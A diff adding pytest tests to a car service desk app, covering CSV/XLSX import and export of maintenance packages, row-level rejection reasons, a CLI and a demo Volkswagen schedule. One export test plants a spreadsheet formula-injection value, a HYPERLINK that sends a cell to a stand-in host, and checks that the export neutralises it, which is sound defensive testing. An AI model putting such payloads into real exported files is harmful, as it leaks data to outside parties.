@@ -8,7 +8,14 @@ from decimal import Decimal
 import pytest
 from sqlalchemy import func, inspect, select
 
-from frontdesk.model import AuditEvent, Job, PackageLine, PartLine, ServicePackage, StockLevel
+from frontdesk.model import (
+    AuditEvent,
+    Job,
+    PackageLine,
+    PartLine,
+    ServicePackage,
+    StockLevel,
+)
 from frontdesk.model.enums import PayType, Role
 from frontdesk.services import catalog, catalog_use, checkin, desk, estimate, packages
 from frontdesk.services.errors import ConflictError, PermissionDenied, ValidationError
@@ -250,3 +257,193 @@ def test_the_first_service_is_paid_by_the_maker_unless_told(services, actors, sc
     packages.add_package(services, advisor, order.id, schedule["10k"], pay_type="warranty")
     assert {ln.pay_type for ln in desk.order_view(services, order.id).lines[3:]} == {"warranty"}
     assert stored(services, Job, desk.order_view(services, order.id).lines[3].id).package_id == schedule["10k"]
+
+
+# Import and export ------------------------------------------------------------------------------
+
+HEADER = ["package_code", "name", "name_en", "make", "models", "interval_km", "interval_months", "kind", "item_code", "qty"]
+ZH_HEADER = ["套餐代码", "套餐名称", "英文名称", "品牌", "适用车型", "保养里程(km)", "保养月数", "类型", "项目代码", "数量"]
+ROWS = [
+    ["vw-10k", "10000公里保养", "10,000 km service", "大众", "朗逸,宝来", "10000", "12", "labour", "MT0101", ""],
+    ["vw-10k", "", "", "", "", "", "", "part", "06L115562B", "1"],
+    ["vw-10k", "10000公里保养", "", "", "", "", "", "part", "LQ-0001", "4"],
+    ["VW-20K", "20000公里保养", "", "大众", "", "20000", "24", "工时", "MT0101", ""],
+    ["VW-20K", "", "", "", "", "", "", "工时", "MT0102", "0.5"],
+    ["VW-20K", "", "", "", "", "", "", "配件", "18G129566MA", "1"],
+]
+
+
+def write_csv(path, header, rows, encoding="utf-8-sig"):
+    import csv
+
+    with open(path, "w", encoding=encoding, newline="") as fh:
+        out = csv.writer(fh)
+        out.writerow(header)
+        out.writerows(rows)
+    return path
+
+
+def package_table(services):
+    return [(h.code, h.name, h.make, h.models, h.interval_km, h.interval_months,
+             tuple((v.kind, v.code, v.qty) for v in h.lines)) for h in packages.all_packages(services)]
+
+
+def count_events(services, action):
+    return sum(1 for e in events(services) if e.action == action)
+
+
+def test_import_packages_dry_run_then_commit_then_again_changes_nothing(services, admin, shop, tmp_path):
+    from frontdesk.services import package_files
+
+    path = write_csv(tmp_path / "schedule.csv", ZH_HEADER, ROWS, encoding="gbk")
+    dry = package_files.dry_run(services, admin, path)
+    assert dry.ok and (dry.rows, [k for _r, k in dry.added], dry.changed, dry.unchanged) == (6, ["VW-10K", "VW-20K"], (), 0)
+    assert packages.all_packages(services) == []  # the dry run wrote nothing
+    done = package_files.import_packages(services, admin, path)
+    assert done.committed and len(done.added) == 2
+    assert package_table(services) == [
+        ("VW-10K", "10000公里保养", "大众", "朗逸,宝来", 10000, 12,
+         (("labour", "MT0101", Decimal("1.00")), ("part", "06L115562B", Decimal("1.00")), ("part", "LQ-0001", Decimal("4.00")))),
+        ("VW-20K", "20000公里保养", "大众", "", 20000, 24,
+         (("labour", "MT0101", Decimal("1.00")), ("labour", "MT0102", Decimal("0.50")),
+          ("part", "18G129566MA", Decimal("1.00")))),
+    ]
+    assert count_events(services, "catalog.import") == 1
+    again = package_files.import_packages(services, admin, path)
+    assert (again.added, again.changed, again.unchanged) == ((), (), 2)
+    # A changed quantity is a changed package: its lines are replaced.
+    rows = [list(r) for r in ROWS]
+    rows[2][9] = "4.5"
+    changed = package_files.import_packages(services, admin, write_csv(tmp_path / "more.csv", HEADER, rows))
+    assert [(c.key, c.fields) for c in changed.changed] == [("VW-10K", ("lines",))] and changed.unchanged == 1
+    with services.db.reader() as s:
+        assert s.scalar(select(func.count()).select_from(PackageLine)) == 6
+
+
+def test_a_bad_row_is_listed_with_its_reason_and_nothing_is_written(services, admin, actors, shop, tmp_path):
+    from frontdesk.services import imports, package_files
+
+    rows = [list(r) for r in ROWS]
+    rows[1][8] = "NO-SUCH-PART"
+    rows[4][7] = "gadget"
+    rows[3][5] = "20 km"
+    rows.append(["ONLY-OIL", "只换机油", "", "", "", "5000", "", "part", "LQ-0001", "4"])
+    rows.append(["vw-10k", "另一个名字", "", "", "", "", "", "part", "LQ-0001", "1"])
+    path = write_csv(tmp_path / "bad.csv", HEADER, rows)
+    report = package_files.dry_run(services, admin, path)
+    assert not report.ok
+    reasons = {r.row: r.reason for r in report.rejected}
+    assert reasons[3] == "No part NO-SUCH-PART."
+    assert "Interval km" in reasons[5]
+    assert reasons[6] == "Line kind: write labour or part."
+    assert reasons[8] == "Package ONLY-OIL has no labour line."
+    assert reasons[9] == "Package name differs from row 2 of the same package."
+    before = len(events(services))
+    with pytest.raises(imports.ImportRejected) as refused:
+        package_files.import_packages(services, admin, path)
+    assert len(refused.value.report.rejected) == 5
+    assert packages.all_packages(services) == [] and len(events(services)) == before
+    with pytest.raises(PermissionDenied):
+        package_files.dry_run(services, actors[Role.ADVISOR], write_csv(tmp_path / "good.csv", HEADER, ROWS))
+
+
+def test_export_round_trips_through_the_import_with_formula_cells_neutralised(services, admin, shop, tmp_path):
+    from frontdesk.services import package_files
+
+    evil = '=HYPERLINK("http://x/?d="&B2,"张三")'
+    define(services, admin, "@SUM", evil, models="朗逸", km=10000, months=12)
+    define(services, admin, "VW-20K", "20000公里保养", km=20000, lines=(("MT0101", "1.2"), ("LQ-0001", "4")), first=True)
+    before = package_table(services)
+    csv_out = package_files.export_packages(services, admin, tmp_path / "packages.csv")
+    assert csv_out.rows == 5
+    text = (tmp_path / "packages.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and "'@SUM" in text
+    xlsx_out = package_files.export_packages(services, admin, tmp_path / "packages.xlsx")
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(tmp_path / "packages.xlsx").worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert xlsx_out.rows == 5
+    for exported in (tmp_path / "packages.csv", tmp_path / "packages.xlsx"):
+        report = package_files.import_packages(services, admin, exported)
+        assert (report.added, report.changed, report.unchanged) == ((), (), 2), exported
+    assert package_table(services) == before
+    # Into an empty store: the same packages again.
+    with services.db.session() as s, s.begin():
+        s.query(PackageLine).delete()
+        s.query(ServicePackage).delete()
+    assert len(package_files.import_packages(services, admin, tmp_path / "packages.xlsx").added) == 2
+    assert package_table(services) == before
+    assert [h.first_service for h in packages.all_packages(services)] == [False, True]
+
+
+def test_the_command_line_imports_and_exports_packages(services, admin, shop, tmp_path, capsys):
+    from frontdesk.cli import main
+
+    url = services.db.engine.url.render_as_string(hide_password=False)
+    path = write_csv(tmp_path / "schedule.csv", HEADER, ROWS)
+    assert main(["--db", url, "--lang", "en", "import", "packages", str(path), "--dry-run"]) == 0
+    assert "6 rows: 2 to add, 0 to change, 0 unchanged, 0 rejected." in capsys.readouterr().out
+    assert packages.all_packages(services) == []
+    assert main(["--db", url, "--lang", "en", "import", "packages", str(path)]) == 0
+    assert len(packages.all_packages(services)) == 2
+    bad = write_csv(tmp_path / "bad.csv", HEADER, [["X-1", "x", "", "", "", "", "", "part", "LQ-0001", "1"]])
+    assert main(["--db", url, "--lang", "en", "import", "packages", str(bad)]) == 1
+    captured = capsys.readouterr()
+    assert "row 2  X-1  Package X-1 has no labour line." in captured.out and "Nothing was imported." in captured.err
+    out = tmp_path / "out.xlsx"
+    assert main(["--db", url, "--lang", "en", "export", "packages", "--out", str(out)]) == 0
+    assert "6 rows written to" in capsys.readouterr().out and out.exists()
+
+
+# The demo's maker's schedule ------------------------------------------------------------------
+
+
+def test_the_demo_schedule_names_only_the_demo_catalog():
+    from frontdesk.services.demo_sources import (
+        VEHICLE_MODELS,
+        load_labor_operations,
+        load_parts,
+    )
+    from frontdesk.services.package_schedule import demo_packages
+
+    ops = {r.code for r in load_labor_operations()}
+    parts = {r.number for r in load_parts()}
+    schedule = demo_packages()
+    assert len({p.code for p in schedule}) == len(schedule) and all(len(p.code) <= 20 for p in schedule)
+    for p in schedule:
+        assert {code for code, _q in p.lines} <= ops | parts, p.code
+        assert any(code in ops for code, _q in p.lines), p.code
+    vw = {m.model for m in VEHICLE_MODELS if m.make == "大众"}
+    covered = {m for p in schedule for m in p.models.split(",")}
+    assert covered == vw
+
+
+def test_the_demo_schedule_saves_and_proposes_by_engine(services, admin, actors):
+    from frontdesk.services.demo_sources import load_labor_operations, load_parts
+    from frontdesk.services.package_schedule import demo_packages
+
+    schedule = demo_packages()
+    wanted = {code for p in schedule for code, _q in p.lines}
+    for r in load_labor_operations():
+        if r.code in wanted:
+            catalog.save_labor_operation(services, admin, catalog.LaborOpInput(r.code, r.name_zh, r.std_hours, r.name_en))
+    for r in load_parts():
+        if r.number in wanted:
+            catalog.save_part(services, admin, catalog.PartInput(r.number, r.name_zh, r.price, r.name_en, unit=r.unit))
+    for p in schedule:
+        packages.save_package(services, admin, p)
+    advisor = actors[Role.ADVISOR]
+    customer = checkin.save_customer(services, advisor, checkin.CustomerInput("李强", "139 0013 9000"))
+    magotan = checkin.save_vehicle(services, advisor, customer.id, checkin.VehicleInput(
+        plate="粤A88888", vin="LFV3A23C0K3000001", make="大众", model="迈腾", colour="深黑",
+        sale_date=dt.date(2023, 1, 10), confirm_vin_check_digit=True)).id
+    due = packages.due_package(services, advisor, magotan, 39600)
+    assert due.package.code == "VW-MAG-40K"
+    oil = next(v for v in due.package.lines if v.code == "LQ-0004")
+    assert oil.qty == Decimal("5.70")
+    lavida = customer_and_vehicle(services, advisor, sale_date=dt.date(2026, 6, 1))[1]
+    first = packages.due_package(services, advisor, lavida, 4700)
+    assert first.package.code == "VW-LAV-5K" and first.package.first_service
+    assert next(h.code for h in packages.find_packages(services, advisor, "10000", vehicle_id=lavida)) == "VW-LAV-10K"
